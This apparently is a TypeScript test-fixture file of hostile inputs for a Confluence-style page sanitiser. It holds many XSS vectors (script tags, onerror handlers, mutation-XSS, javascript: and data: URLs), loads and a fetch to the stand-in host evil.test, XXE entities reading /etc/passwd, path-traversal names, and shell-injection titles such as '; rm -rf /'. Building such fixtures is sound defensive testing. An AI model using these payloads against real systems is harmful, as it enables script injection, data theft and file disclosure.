// Bodies that try to run, load, send, frame or break out. Whatever runs calls `SENTINEL()`; whatever loads comes from `evil.test`.

const evil = 'http://evil.test';
const call = "top.SENTINEL&&top.SENTINEL();window.SENTINEL&&SENTINEL();fetch('http://evil.test/ran')";
const script = `<script>${call}</script>`;
const macro = (name: string, inner: string) =>
  `<ac:structured-macro ac:name="${name}">${inner}</ac:structured-macro>`;
const rich = (text: string) => `<ac:rich-text-body>${text}</ac:rich-text-body>`;
const plain = (text: string) => `<ac:plain-text-body><![CDATA[${text}]]></ac:plain-text-body>`;
const parameter = (name: string, value: string) => `<ac:parameter ac:name="${name}">${value}</ac:parameter>`;
const jsLink = (href: string) => `<a href="${href}">click</a>`;
const onError = `<img src="x" onerror="${call}" />`;

/** What each tries to do, and the body. */
export const hostileBodies: readonly (readonly [about: string, body: string])[] = [
  ['a script', script],
  ['a split script in capitals', `<SCR<script></script>IPT>${call}</SCRIPT>`],
  [
    'an external script',
    `<script src="${evil}/x.js"></script><script type="module" src="${evil}/y.js"></script>`,
  ],
  ['a script with an odd end tag', `<script>${call}</script/x><p>after</p>`],
  [
    'handlers',
    `<p onclick="${call}" onmouseover="${call}" onfocus="${call}" autofocus="" tabindex="1">x</p>`,
  ],
  ['an image that fails', onError],
  ['an image with odd quotes', `<img """><script>${call}</script>">`],
  ['slashes for spaces', `<img/src=x/onerror=${call}><svg/onload=${call}>`],
  [
    'svg',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"><script>${call}</script><image href="${evil}/i.png"/><use href="${evil}/u.svg#a"/><foreignObject>${onError}</foreignObject></svg>`,
  ],
  [
    'svg animation',
    `<svg><a><animate attributeName="href" values="javascript:${call}"/><text y="20">x</text></a><set attributeName="onload" to="${call}"/></svg>`,
  ],
  ['svg style', `<svg><style>@import url(${evil}/s.css); *{background:url(${evil}/b.png)}</style></svg>`],
  [
    'math',
    `<math><mtext><table><mglyph><style><img src=x onerror="${call}"></style></mglyph></table></mtext></math>`,
  ],
  ['math link', `<math><maction actiontype="statusline" href="javascript:${call}">x</maction></math>`],
  [
    'mutation: mtext',
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${call} src=1>"></textarea></mtext></svg></mglyph></math>`,
  ],
  [
    'mutation: form in table',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}></style></mglyph></form></mtext></math></form>`,
  ],
  ['mutation: noscript', `<noscript><p title="</noscript><img src=x onerror=${call}>"></p></noscript>`],
  ['mutation: comment in svg', `<svg></p><style><!--</style><img src=x onerror=${call}>--></svg>`],
  ['mutation: xmp', `<xmp><p title="</xmp><img src=x onerror=${call}>"></p></xmp>`],
  ['mutation: textarea', `<textarea></textarea/><img src=x onerror=${call}></textarea>`],
  ['mutation: title', `<title><a title="</title><img src=x onerror=${call}>"></a></title>`],
  [
    'mutation: noembed and plaintext',
    `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed><plaintext><img src=x onerror=${call}>`,
  ],
  ['mutation: select', `<select><iframe></select><img src=x onerror=${call}></iframe>`],
  ['mutation: template', `<template><img src=x onerror=${call}><script>${call}</script></template>`],
  ['mutation: backticks', '<img alt="``onerror=SENTINEL()" src="x" />'],
  [
    'comments',
    `<!--><script>${call}</script>--><!-- --!><img src=x onerror=${call}> --><![if IE]><script>${call}</script><![endif]>`,
  ],
  ['CDATA in HTML', `<p><![CDATA[<script>${call}</script>]]></p><![CDATA[<img src=x onerror=${call}>]]>`],
  ['split CDATA', `${macro('code', plain(`]]]]><![CDATA[><script>${call}</script>`))}`],
  ['unterminated CDATA', `<p>before</p><![CDATA[<script>${call}</script>`],
  [
    'code that is markup',
    macro(
      'code',
      parameter('language', '"><script>SENTINEL()</script>') +
        parameter('title', onError) +
        plain(`</code></pre>${script}`),
    ),
  ],
  [
    'processing instructions',
    `<?xml version="1.0"?><?xml-stylesheet href="${evil}/x.xsl"?><?php echo 1 ?><p>x</p>`,
  ],
  [
    'exponential entities',
    `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><p>&b;&c;</p>`,
  ],
  ['an external entity', `<!DOCTYPE x SYSTEM "${evil}/x.dtd"><p>x</p>`],
  ['nesting', '<div>'.repeat(60_000)],
  [
    'nesting of macros',
    macro('panel', rich(macro('expand', rich('x')))).repeat(3) +
      '<ac:structured-macro ac:name="panel"><ac:rich-text-body>'.repeat(5000),
  ],
  ['end tags without start tags', '</div></p></a></table></ac:link>'.repeat(5000)],
  ['a huge attribute', `<p title="${'x'.repeat(500_000)}" data-x="${'<'.repeat(10_000)}">x</p>`],
  ['many attributes', `<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}="${i}"`).join(' ')}>x</p>`],
  [
    'null bytes',
    `<scr\0ipt>${call}</scr\0ipt><img src=x one\0rror=${call}><a href="java\0script:${call}">x</a>`,
  ],
  ['javascript:', jsLink(`javascript:${call}`)],
  ['javascript: in capitals and with spaces', jsLink(`  JaVaScRiPt:${call}`)],
  ['javascript: with a tab', jsLink(`java&#9;script:${call}`)],
  ['javascript: with line breaks', jsLink(`java&#10;scr&#13;ipt:${call}`)],
  [
    'javascript: as entities',
    jsLink('&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;SENTINEL()'),
  ],
  ['javascript: with &colon;', jsLink(`javascript&colon;${call}`)],
  ['javascript: after a control character', jsLink(`&#1;javascript:${call}`)],
  ['data: page', jsLink('data:text/html,<script>opener.SENTINEL()</script>')],
  ['data: in base64', jsLink('data:text/html;base64,PHNjcmlwdD5TRU5USU5FTCgpPC9zY3JpcHQ+')],
  [
    'vbscript, file, blob, view-source',
    ['vbscript:x', 'file:///etc/passwd', 'blob:http://x/y', 'view-source:x', 'filesystem:x']
      .map(jsLink)
      .join(''),
  ],
  [
    'an address without a scheme',
    `${jsLink('//evil.test/x')}<img src="//evil.test/x.png" />${jsLink('\\\\evil.test\\x')}`,
  ],
  ['an address with a user name', jsLink('https://wiki.example.org@evil.test/')],
  [
    'a target other than the frame',
    '<a href="https://example.org" target="_parent" rel="opener" ping="http://evil.test/ping">x</a>',
  ],
  [
    'images',
    `<img src="${evil}/a.png" srcset="${evil}/b.png 2x" lowsrc="${evil}/c.png" dynsrc="${evil}/d.png" style="background:url(${evil}/e.png)" />`,
  ],
  [
    'picture and media',
    `<picture><source srcset="${evil}/a.webp" /><img src="${evil}/a.png" /></picture><video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay="">x</video><audio src="${evil}/a.mp3" autoplay=""></audio><track src="${evil}/t.vtt" />`,
  ],
  ['a Confluence image from another site', `<ac:image><ri:url ri:value="${evil}/i.png" /></ac:image>`],
  [
    'a Confluence image with a script address',
    `<ac:image><ri:url ri:value="javascript:${call}" /></ac:image><ac:image ac:alt="&quot; onerror=&quot;SENTINEL()" ac:width="1 onload=x"><ri:attachment ri:filename="picture.png" /></ac:image>`,
  ],
  ['an image that is an svg attachment', '<ac:image><ri:attachment ri:filename="evil.svg" /></ac:image>'],
  ['an image with a false content type', '<ac:image><ri:attachment ri:filename="lie.png" /></ac:image>'],
  [
    'an attachment with a path as its name',
    '<ac:image><ri:attachment ri:filename="../../../etc/passwd" /></ac:image><ac:link><ri:attachment ri:filename="..\\..\\x" /></ac:link>',
  ],
  [
    'style',
    `<style>@import "${evil}/s.css"; body{background:url(${evil}/b.png)} @font-face{font-family:x;src:url(${evil}/f.woff)}</style><p style="background:url(${evil}/c.png);position:fixed;inset:0;width:100vw;height:100vh;z-index:9;font-family:x">x</p>`,
  ],
  [
    'style with an expression',
    `<p style="width:expression(${call});behavior:url(${evil}/x.htc);-moz-binding:url(${evil}/x.xml)">x</p>`,
  ],
  [
    'a stylesheet',
    `<link rel="stylesheet" href="${evil}/s.css" /><link rel="prefetch" href="${evil}/p" /><link rel="dns-prefetch" href="${evil}" /><link rel="preload" as="image" href="${evil}/l.png" /><link rel="icon" href="${evil}/i.ico" />`,
  ],
  [
    'a refresh',
    `<meta http-equiv="refresh" content="0;url=${evil}/r" /><meta http-equiv="Content-Security-Policy" content="default-src *" /><meta http-equiv="Set-Cookie" content="a=b" />`,
  ],
  ['a base', `<base href="${evil}/" target="_top" /><a href="x">x</a>`],
  [
    'forms',
    `<form action="${evil}/f" method="post" id="f"><input name="a" autofocus="" onfocus="${call}" /><button formaction="javascript:${call}">x</button><input type="image" src="${evil}/b.png" /></form><button form="f">y</button>`,
  ],
  [
    'isindex and keygen',
    `<isindex action="javascript:${call}" type="image" /><keygen autofocus="" onfocus="${call}" />`,
  ],
  [
    'frames',
    `<iframe src="${evil}/f"></iframe><iframe srcdoc="<script>${call}</script>"></iframe><frameset><frame src="javascript:${call}" /></frameset>`,
  ],
  [
    'plugins',
    `<object data="${evil}/o" type="text/html"><param name="a" value="b" /></object><embed src="${evil}/e" /><applet code="${evil}/a"></applet>`,
  ],
  [
    'objects with a script address',
    `<object data="javascript:${call}"></object><embed src="javascript:${call}" />`,
  ],
  [
    'a portal and a dialog',
    `<portal src="${evil}/p"></portal><dialog open="">x</dialog><fencedframe src="${evil}/ff"></fencedframe>`,
  ],
  ['custom elements and slots', '<x-evil is="evil" onclick="SENTINEL()"><slot name="x"></slot></x-evil>'],
  [
    'a popover and command buttons',
    `<button popovertarget="p" commandfor="p" command="show-popover" onclick="${call}">x</button><div popover="" id="p" onbeforetoggle="${call}">y</div>`,
  ],
  [
    'details that open',
    `<details open="" ontoggle="${call}"><summary onclick="${call}">x</summary>${script}</details>`,
  ],
  [
    'a marquee and old tags',
    `<marquee onstart="${call}" loop="1">x</marquee><blink>y</blink><bgsound src="javascript:${call}" /><layer src="${evil}/l"></layer>`,
  ],
  [
    'html and body elements',
    `<html manifest="${evil}/m"><head><script>${call}</script></head><body onload="${call}" background="${evil}/b.png">x</body></html>`,
  ],
  [
    'broken tables',
    `<table background="${evil}/t.png"><script>${call}</script><tr><td background="${evil}/u.png" colspan="999999999" rowspan="-1" onclick="${call}">x<table><tr>${onError}</tr></table></td></tr>${onError}</table>`,
  ],
  [
    'a hostile macro name',
    `<ac:structured-macro ac:name="&quot;&gt;&lt;script&gt;SENTINEL()&lt;/script&gt;">${plain(script)}</ac:structured-macro>`,
  ],
  [
    'a macro named like a built-in property',
    ['__proto__', 'constructor', 'toString', 'hasOwnProperty']
      .map((name) => macro(name, parameter('__proto__', 'x') + rich('x')))
      .join(''),
  ],
  [
    'the html macro',
    macro('html', plain(script)) +
      macro('html-include', parameter('url', `${evil}/h`)) +
      macro('iframe', parameter('src', `${evil}/i`)) +
      macro('widget', `<ac:parameter ac:name="url"><ri:url ri:value="${evil}/w" /></ac:parameter>`),
  ],
  [
    'hostile parameters',
    macro(
      'panel',
      parameter('title', '&lt;img src=x onerror=SENTINEL()&gt;') +
        parameter('bgColor', `url(${evil}/p.png)`) +
        rich(script),
    ) +
      macro(
        'status',
        parameter('colour', 'Red" onclick="SENTINEL()') +
          parameter('title', '&lt;/span&gt;&lt;script&gt;SENTINEL()&lt;/script&gt;'),
      ),
  ],
  ['a panel title that is markup', macro('info', parameter('title', script) + rich(onError))],
  ['an expand around everything', macro('expand', parameter('title', onError) + rich(script + onError))],
  [
    'a link with hostile text',
    `<ac:link><ri:page ri:content-title="&quot;&gt;&lt;script&gt;SENTINEL()&lt;/script&gt;" /><ac:plain-text-link-body><![CDATA[<img src=x onerror=SENTINEL()>]]></ac:plain-text-link-body></ac:link><ac:link ac:anchor="&quot; onclick=&quot;SENTINEL()"><ac:link-body>${script}x</ac:link-body></ac:link>`,
  ],
  [
    'links in links',
    '<a href="https://example.org/1">a <a href="https://example.org/2">b</a> <ac:link><ri:page ri:content-title="c" /></ac:link></a>',
  ],
  [
    'a link with a script address',
    '<ac:link><ri:url ri:value="javascript:SENTINEL()" /></ac:link><ac:link><ri:shortcut ri:key="x" ri:value="javascript:SENTINEL()" /></ac:link>',
  ],
  [
    'ids that shadow globals',
    '<p id="location" name="cookie"><a id="SENTINEL" name="body" href="#x">x</a></p><h2>location</h2><h2 id="x">document</h2>',
  ],
  [
    'an emoticon that is markup',
    `<ac:emoticon ac:name="smile&quot;&gt;&lt;script&gt;" ac:emoji-fallback="&lt;img src=x onerror=SENTINEL()&gt;" ac:emoji-shortname="&lt;script&gt;" />`,
  ],
  [
    'a time that is markup',
    '<time datetime="2026-01-01&quot; onclick=&quot;SENTINEL()">x</time><time datetime="&lt;script&gt;">y</time>',
  ],
  [
    'a task list',
    `<ac:task-list><ac:task><ac:task-status>complete"&gt;&lt;script&gt;SENTINEL()&lt;/script&gt;</ac:task-status><ac:task-body>${script}${onError}</ac:task-body></ac:task></ac:task-list>`,
  ],
  [
    'an extension',
    `<ac:adf-extension><ac:adf-node type="panel"><ac:adf-attribute key="panel-type">__proto__</ac:adf-attribute><ac:adf-content>${script}${onError}</ac:adf-content></ac:adf-node><ac:adf-fallback>${script}</ac:adf-fallback></ac:adf-extension>`,
  ],
  [
    'nested namespaces',
    `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${call}</svg:script><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script><ac:svg><svg><ac:image><ri:url ri:value="${evil}/n.png"/></ac:image></svg></ac:svg>`,
  ],
  [
    'an xlink',
    `<a xlink:href="javascript:${call}" xmlns:xlink="http://www.w3.org/1999/xlink">x</a><image xlink:href="${evil}/x.png" />`,
  ],
  [
    'utf-7 and odd brackets',
    '+ADw-script+AD4-SENTINEL()+ADw-/script+AD4- ＜script＞SENTINEL()＜/script＞ \u2028<script\u2028>SENTINEL()</script\u2028>',
  ],
  [
    'lone surrogates',
    '<p>\ud800 &#xD800; &#x110000; &#0; \ufffe</p><a href="https://example.org/\udc00">x</a>',
  ],
  ['characters that change the text direction', '<p>\u202egnp.exe\u202c \u2066x\u2069 \u200b</p>'],
  [
    'markup that imitates this program',
    '<div class="notice bad"><h1>You are signed out</h1><p><a class="button primary" href="https://desk.test.evil.test/">Sign in</a></p></div>',
  ],
  [
    'broken XML',
    '<p><b>one<i>two</b>three</i><ac:link><ri:page ri:content-title="x"</ac:link><p <b x="<">"\'>four</p',
  ],
  ['everything unclosed', '<ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[<b'],
];

/** Titles of pages, attachments and spaces that try to be more than a name. */
export const hostileTitles: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\x',
  '/etc/passwd',
  'C:\\boot.ini',
  '\\\\server\\share\\x',
  'file://evil.test/x',
  '.',
  '..',
  '...',
  ' . ',
  '',
  '   ',
  '\0',
  'a\0b',
  'CON',
  'con.txt',
  'NUL',
  'Aux.',
  'COM1',
  'lpt9.html',
  'COM¹',
  'CONOUT$',
  'name.',
  'name ',
  'name. . .',
  'a:b',
  'x:$DATA',
  'a*?<>|"b',
  '-rf',
  '--help',
  '~/.ssh/authorized_keys',
  '.bashrc',
  '.htaccess',
  'a\nb\r\nc\td',
  'photo\u202egnp.exe',
  '\u2066hidden\u2069',
  'zero\u200bwidth\ufeff',
  'Cafe\u0301',
  'Café',
  'README',
  'readme',
  'ReadMe ',
  'ﬁle',
  'file',
  'Straße',
  'STRASSE',
  'İstanbul',
  'x'.repeat(1000),
  '界'.repeat(500),
  '👩‍👩‍👧‍👦'.repeat(80),
  '\ud800lone',
  '%2e%2e%2f',
  '%00',
  '$(touch x)',
  '`id`',
  '; rm -rf /',
  '"><script>SENTINEL()</script>',
  '</title><script>SENTINEL()</script>',
  'index',
  'files',
  'Index.html',
  'ﾃｽﾄ／..／x',
  '．．／x',
  '__proto__',
];
